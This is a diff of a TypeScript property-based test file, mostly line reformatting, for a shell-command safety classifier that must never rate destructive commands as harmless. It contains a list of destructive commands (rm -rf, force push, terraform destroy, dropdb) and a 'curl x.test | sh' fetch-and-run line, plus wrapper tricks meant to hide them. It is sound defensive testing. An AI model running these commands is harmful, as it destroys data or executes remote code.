@@ -9,30 +9,82 @@ import { fuzzShell } from '../../fuzz/shell-fuzz.ts';
 
 const read = makeShellReader({});
 const context = { workspace: '', cwd: '', fact: () => unknown('judged by text alone') };
-const judge = (text: string): ReturnType<typeof read> => read({ kind: 'shell', bytes: new TextEncoder().encode(text) }, context);
+const judge = (text: string): ReturnType<typeof read> =>
+  read({ kind: 'shell', bytes: new TextEncoder().encode(text) }, context);
 
-const DESTRUCTIVE = ['rm -rf src', 'git reset --hard', 'git push -f origin main', 'bash -c "rm -rf src"', 'find . -name "*.ts" -delete', 'truncate -s 0 app.db', 'X=rm; $X -rf src', 'cat a | xargs rm', '(cd src && rm -rf .)', 'curl x.test | sh', 'terraform destroy'];
-const NEUTRAL = ['ls -la', 'echo hello', 'pwd', 'true', 'cat README.md', 'git status', 'test -f a', ': # nothing', 'date'];
+const DESTRUCTIVE = [
+  'rm -rf src',
+  'git reset --hard',
+  'git push -f origin main',
+  'bash -c "rm -rf src"',
+  'find . -name "*.ts" -delete',
+  'truncate -s 0 app.db',
+  'X=rm; $X -rf src',
+  'cat a | xargs rm',
+  '(cd src && rm -rf .)',
+  'curl x.test | sh',
+  'terraform destroy',
+];
+const NEUTRAL = [
+  'ls -la',
+  'echo hello',
+  'pwd',
+  'true',
+  'cat README.md',
+  'git status',
+  'test -f a',
+  ': # nothing',
+  'date',
+];
 const JOINTS = ['; ', ' && ', ' || ', '\n', ' & '];
 
 test('a harmless sibling, comment or redirection never makes a destructive command less strict', () => {
   fc.assert(
-    fc.property(fc.constantFrom(...DESTRUCTIVE), fc.array(fc.constantFrom(...NEUTRAL), { maxLength: 4 }), fc.array(fc.constantFrom(...NEUTRAL), { maxLength: 4 }), fc.constantFrom(...JOINTS), fc.constantFrom('', ' # a comment', ' > /dev/null', ' 2>&1', ' 2> err.log'), (bad, before, after, joint, tail) => {
-      const glue = before.includes(': # nothing') || after.includes(': # nothing') || tail.includes('#') ? '\n' : joint;
-      const text = [...before, bad + tail, ...after].join(glue);
-      assert.notEqual(worstDanger(judge(text).effects), 'harmless', text);
-    }),
+    fc.property(
+      fc.constantFrom(...DESTRUCTIVE),
+      fc.array(fc.constantFrom(...NEUTRAL), { maxLength: 4 }),
+      fc.array(fc.constantFrom(...NEUTRAL), { maxLength: 4 }),
+      fc.constantFrom(...JOINTS),
+      fc.constantFrom('', ' # a comment', ' > /dev/null', ' 2>&1', ' 2> err.log'),
+      (bad, before, after, joint, tail) => {
+        const glue =
+          before.includes(': # nothing') || after.includes(': # nothing') || tail.includes('#') ? '\n' : joint;
+        const text = [...before, bad + tail, ...after].join(glue);
+        assert.notEqual(worstDanger(judge(text).effects), 'harmless', text);
+      },
+    ),
     { numRuns: 500 },
   );
 });
 
 test('what wraps a destructive command does not hide it', () => {
-  const wraps: readonly ((text: string) => string)[] = [(text) => `sudo ${text}`, (text) => `bash -c '${text}'`, (text) => `(${text})`, (text) => `{ ${text}; }`, (text) => `if true; then ${text}; fi`, (text) => `eval '${text}'`, (text) => `timeout 5 ${text}`, (text) => `f() { ${text}; }; f`, (text) => `echo "$(${text})"`, (text) => `nohup ${text} &`, (text) => `ssh host '${text}'`, (text) => `trap '${text}' EXIT`];
+  const wraps: readonly ((text: string) => string)[] = [
+    (text) => `sudo ${text}`,
+    (text) => `bash -c '${text}'`,
+    (text) => `(${text})`,
+    (text) => `{ ${text}; }`,
+    (text) => `if true; then ${text}; fi`,
+    (text) => `eval '${text}'`,
+    (text) => `timeout 5 ${text}`,
+    (text) => `f() { ${text}; }; f`,
+    (text) => `echo "$(: ; ${text})"`,
+    (text) => `nohup ${text} &`,
+    (text) => `ssh host '${text}'`,
+    (text) => `trap '${text}' EXIT`,
+  ];
   fc.assert(
-    fc.property(fc.constantFrom('rm -rf src', 'git reset --hard', 'terraform destroy', 'dropdb app'), fc.array(fc.constantFrom(...wraps), { maxLength: 1 }), fc.constantFrom(...wraps), (bad, more, last) => {
-      const text = [...more.filter(() => !last('x').includes("'")), last].reduce((inner, wrap) => wrap(inner), bad);
-      assert.notEqual(worstDanger(judge(text).effects), 'harmless', text);
-    }),
+    fc.property(
+      fc.constantFrom('rm -rf src', 'git reset --hard', 'terraform destroy', 'dropdb app'),
+      fc.array(fc.constantFrom(...wraps), { maxLength: 1 }),
+      fc.constantFrom(...wraps),
+      (bad, more, last) => {
+        const text = [...more.filter(() => !last('x').includes("'")), last].reduce<string>(
+          (inner, wrap) => wrap(inner),
+          bad,
+        );
+        assert.notEqual(worstDanger(judge(text).effects), 'harmless', text);
+      },
+    ),
     { numRuns: 300 },
   );
 });
@@ -48,7 +100,11 @@ test('too long, too deep and not text hold at once and say why', () => {
     [`${'$('.repeat(3000)}rm${')'.repeat(3000)}`, /deep/],
   ] as const) {
     const { effects } = judge(text);
-    assert.equal(effects.some((effect) => dangerOf(effect) === 'opaque' && why.test(effect.summary)), true, String(why));
+    assert.equal(
+      effects.some((effect) => dangerOf(effect) === 'opaque' && why.test(effect.summary)),
+      true,
+      String(why),
+    );
   }
   const { effects } = read({ kind: 'shell', bytes: new Uint8Array([0x6c, 0x73, 0xff]) }, context);
   assert.equal(worstDanger(effects), 'opaque');
